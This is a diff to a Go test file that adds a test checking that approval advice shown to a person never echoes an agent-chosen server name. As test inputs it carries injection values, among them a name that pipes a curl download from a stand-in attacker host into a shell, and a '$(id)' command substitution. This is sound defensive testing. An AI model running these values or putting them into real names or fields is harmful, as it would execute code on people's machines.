@@ -119,6 +119,20 @@ func TestFirstUse(t *testing.T) {
 	}
 }
 
+// An agent can write a workspace's file, and so choose the name of a server. What a person is
+// advised to type runs nothing that is written in that name.
+func TestAdviceDoesNotRunNames(t *testing.T) {
+	b := opened(t, "")
+	for _, name := range []string{"a;curl${IFS}evil.example|sh", "a $(id)", "--all"} {
+		s := Server{Tenant: "t", Name: name}
+		b.Judge(t.Context(), s, tofu, named("a=1"))
+		why := b.Judge(t.Context(), s, tofu, named("a=2")).Why(KindTool, "a")
+		if strings.Contains(why, "approve "+name) || strings.Contains(why, "(id)") || !strings.Contains(why, "`belljar upstream approve NAME`") {
+			t.Errorf("the advice is %q", why)
+		}
+	}
+}
+
 func TestModes(t *testing.T) {
 	for mode, want := range map[Mode][3]string{
 		TOFU:   {"", "tool a changed", "tool b new"},
